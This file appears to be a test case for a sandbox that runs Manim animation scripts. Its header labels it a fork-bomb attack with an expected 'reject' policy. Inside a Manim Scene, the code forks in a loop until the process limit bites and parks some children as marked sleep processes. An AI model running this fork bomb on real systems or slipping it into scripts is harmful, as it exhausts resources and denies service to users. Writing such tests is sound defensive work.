# category: proc
# attack: fork bomb: every child forks again until the process limit bites; some exec a marker sleep; the root then still plays
# expect: any
# policy: reject
import os
import time

from manim import *

MARKER = HOSTILE_MARKER


class ForkBomb(Scene):
    def construct(self):
        root = os.getpid()
        made = 0
        deadline = time.monotonic() + 3
        while time.monotonic() < deadline:
            try:
                pid = os.fork()
            except OSError:
                if os.getpid() != root:
                    time.sleep(60)
                    os._exit(0)
                time.sleep(0.05)
                continue
            if pid == 0:
                if made % 4 == 0:
                    try:
                        os.execv("/bin/sleep", [f"{MARKER}-bomb", "300"])
                    except OSError:
                        os._exit(0)
                continue
            made += 1
        if os.getpid() != root:
            time.sleep(60)
            os._exit(0)
        print("forked", made)
        self.play(FadeIn(Square()), run_time=0.3)
